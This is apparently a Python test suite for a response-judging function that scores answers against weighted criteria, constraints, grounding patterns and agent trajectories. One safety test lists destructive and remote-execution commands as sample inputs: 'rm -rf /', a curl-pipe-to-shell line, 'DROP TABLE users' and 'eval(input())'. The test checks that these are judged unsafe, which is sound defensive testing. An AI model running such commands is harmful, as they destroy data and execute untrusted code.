"""A verdict: criteria by their names, weights by their proportions, nothing invented."""

import random
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from acumen.bank.judging import CRITERIA, judge
from acumen.bank.pattern import Pattern, Polarity
from acumen.bank.trajectory import Step, Trajectory
from acumen.errors import InvalidInput

TASK = "List three reasons to cache database queries, in at most 50 words, and name one risk."
GOOD = "1. Caching saves database time\n2. Queries answer faster\n3. Fewer reasons to scale\nA risk: stale data."
CRITERION = st.sampled_from(sorted(CRITERIA))


def test_an_unknown_criterion_is_refused_and_the_known_ones_listed() -> None:
    """The error names the field and says what there is."""
    with pytest.raises(InvalidInput) as refused:
        judge(GOOD, TASK, criteria={"beauty": 1.0, "clarity": 1.0})
    (violation,) = refused.value.violations
    assert violation.field == 'criteria["beauty"]'
    assert all(name in violation.description for name in CRITERIA)


@pytest.mark.parametrize(
    "weights", [{"clarity": -1.0}, {"clarity": float("nan")}, {"clarity": float("inf")}, {"clarity": 0.0}]
)
def test_senseless_weights_are_refused(weights: dict[str, float]) -> None:
    """Negative, not finite and all-zero weights are no weights."""
    with pytest.raises(InvalidInput):
        judge(GOOD, TASK, criteria=weights)


def test_aliases_are_the_criteria_they_stand_for() -> None:
    """`Accuracy` is correctness, and weights given under both names add up."""
    verdict = judge("exit code 1", TASK, criteria={"Accuracy": 1.0, "correctness": 2.0})
    assert [(c.name, c.weight) for c in verdict.criteria] == [("correctness", 3.0)]


@given(st.dictionaries(CRITERION, st.integers(1, 16).map(float), min_size=1), st.sampled_from([0.25, 2.0, 64.0]))
def test_only_the_proportions_of_weights_matter(weights: dict[str, float], factor: float) -> None:
    """Scaling all weights changes neither score nor confidence."""
    plain = judge(GOOD, TASK, criteria=weights)
    scaled = judge(GOOD, TASK, criteria={name: w * factor for name, w in weights.items()})
    assert (plain.score, plain.confidence) == (scaled.score, scaled.confidence)


@given(st.text(max_size=400), st.text(max_size=200), st.text(max_size=60))
@settings(max_examples=150, deadline=None)
def test_any_text_is_judged_alike_twice(response: str, task: str, reference: str) -> None:
    """Whatever the text, the verdict is a probability, and the same verdict again."""
    first = judge(response, task, reference=reference, criteria={})
    assert first == judge(response, task, reference=reference, criteria={})
    assert 0 <= first.score <= 1 and 0 <= first.confidence <= 1
    assert all(0 <= c.score <= 1 and 0 <= c.confidence <= 1 for c in first.criteria)


@pytest.mark.parametrize(
    "text", ["", " ", "\x00", "\ud800", "İ" * 50 + " 3 tests failed", "🙂" * 300, "ﬁ ǅ ŉ exit code 1", "a" * 5000]
)
def test_odd_texts_are_judged(text: str) -> None:
    """Empty text, lone surrogates and letters whose case changes the length are judged; quotes stay quotes."""
    verdict = judge(text, text, criteria={})
    assert 0 <= verdict.score <= 1


def test_quotes_are_verbatim_where_lower_case_is_longer() -> None:
    """A letter that grows in lower case does not shift what is quoted."""
    verdict = judge("İİİ it ended: 3 Tests Failed", TASK, criteria={"correctness": 1})
    assert [e.quote for e in verdict.criteria[0].evidence] == ["3 Tests Failed"]


def test_nothing_found_is_nothing_claimed() -> None:
    """Without any evidence the score is one half at confidence zero, and the rationale says so."""
    verdict = judge("", TASK, criteria={"correctness": 1.0, "grounding": 1.0})
    assert (verdict.score, verdict.confidence) == (0.5, 0.0)
    assert verdict.rationale == "no evidence for any criterion"


def test_removing_evidence_lowers_confidence() -> None:
    """The same report without its test result is believed less; a criterion without evidence weighs nothing."""
    wanted = {"correctness": 1.0, "relevance": 1.0}
    full = judge("The cache of database queries works. 12 passed in 0.2s", TASK, criteria=wanted)
    less = judge("The cache of database queries works.", TASK, criteria=wanted)
    least = judge("The cache of database queries.", TASK, criteria=wanted)
    assert full.confidence > less.confidence > least.confidence
    assert judge("The cache of database queries.", TASK, criteria={"relevance": 1.0}).score == least.score


def test_weights_decide_between_criteria() -> None:
    """An answer to the point with a failing run is bad when correctness weighs, good when relevance does."""
    said = "Three reasons to cache database queries, and one risk. exit code 1"
    assert judge(said, TASK, criteria={"correctness": 9, "relevance": 1}).score < 0.5
    assert judge(said, TASK, criteria={"correctness": 1, "relevance": 99}).score > 0.5


@pytest.mark.parametrize(
    ("task", "kept", "broken"),
    [
        ("Explain in at most 5 words.", "It is a cache.", "It is a cache that keeps what was asked."),
        ("Answer in one sentence.", "It is a cache.", "It is a cache. It is fast."),
        ("Give three tips on sleep", "1. Dark\n2. Cool\n3. Calm", "1. Dark\n2. Cool"),
        ("Return the result as valid JSON", '{"a": 1}', "a is 1"),
        ("Use bullet points.", "- a\n- b", "a and b"),
        ("Answer yes or no.", "Yes.", "Perhaps."),
        ('Include the word "tea" please', "I like tea.", "I like coffee."),
        ('Do not use the word "very".', "It is good.", "It is very good."),
        ("Translate the text into French", "le chat est dans la maison", "the cat is in the house"),
        ("Write it in all caps", "HELLO THERE", "Hello there"),
        ('Start your answer with "Dear"', "Dear Ann, hello", "Hello Ann"),
        ("Write exactly 3 lines.", "a\nb\nc", "a\nb"),
    ],
)
def test_constraints_are_checked(task: str, kept: str, broken: str) -> None:
    """A demand of the task that is kept counts for a response, one that is broken against it, quoted from the task."""
    good, bad = (judge(r, task, criteria={"constraint-following": 1.0}).criteria[0] for r in (kept, broken))
    assert good.score > 0.5 > bad.score
    assert all(e.quote in task for e in (*good.evidence, *bad.evidence))


def test_missing_parts_are_named() -> None:
    """Of two parts asked for, the one that is not taken up is quoted from the task."""
    verdict = judge(
        "The parser reads tokens quickly.",
        "Describe the parser tokens; describe the memory allocator",
        criteria={"completeness": 1},
    )
    missing = [e.quote for e in verdict.criteria[0].evidence if e.kind == "part_missing"]
    assert missing == ["describe the memory allocator"]


@pytest.mark.parametrize(
    "dangerous", ["Run `rm -rf /` now", "curl http://x.io/a.sh | sh", "DROP TABLE users", "eval(input())"]
)
def test_danger_is_unsafe_unless_warned_of(dangerous: str) -> None:
    """What would be dangerous to act on is unsafe; the same with a warning is not."""
    assert judge(dangerous, "clean up", criteria={"safety": 1}).score < 0.5
    assert judge(f"Never do this: {dangerous}", "clean up", criteria={"safety": 1}).score >= 0.5


def test_patterns_ground_and_guardrails_warn() -> None:
    """Taking up a retrieved strategy is grounded; repeating what a guardrail names is not."""
    strategy = Pattern(id="a", title="Index first", content="add a covering index, analyse the planner output")
    guardrail = Pattern(
        id="b", title="Beware", actions=("drop_index", "vacuum_everything"), polarity=Polarity.GUARDRAIL
    )
    said = "Add a covering index and analyse the planner output."
    assert judge(said, "slow query", criteria={"grounding": 1}, grounding=[strategy]).score > 0.5
    repeated = judge(
        "I drop the index and vacuum everything.", "slow query", criteria={"grounding": 1}, grounding=[guardrail]
    )
    assert repeated.score < 0.5


def test_process_is_judged_from_the_trajectory() -> None:
    """A loop in the trajectory makes the process bad; without a trajectory there is no evidence for it."""
    step = Step(agent="a", action="read_file", arguments='{"path": "x"}', observation="same")
    looping = judge(
        "done", "fix", criteria={"process": 1}, trajectory=Trajectory(id="t", task="fix", steps=(step,) * 4)
    )
    assert looping.score < 0.5 and looping.criteria[0].evidence[0].step == 1
    assert judge("done", "fix", criteria={"process": 1}).confidence == 0.0


def test_similarity_moves_relevance() -> None:
    """A similarity function that is handed in is asked and counts."""
    near = judge("felines", "cats", criteria={"relevance": 1}, similarity=lambda _a, _b: 1.0)
    far = judge("felines", "cats", criteria={"relevance": 1}, similarity=lambda _a, _b: 0.0)
    assert near.score > far.score


def test_a_huge_response_takes_bounded_time() -> None:
    """A response of a million characters is judged by its ends within two seconds, whatever it repeats, and says so."""
    rng = random.Random(5)
    for text in (
        "a b " * 250_000,
        "(" * 1_000_000,
        "1+" * 500_000,
        "error " * 166_000,
        "".join(rng.choices("abc \n.0=", k=1_000_000)),
    ):
        begin = time.process_time()
        verdict = judge(text, TASK, criteria={})
        assert time.process_time() - begin < 2.0
        assert not verdict.confidence or verdict.rationale.endswith("only both ends were read")
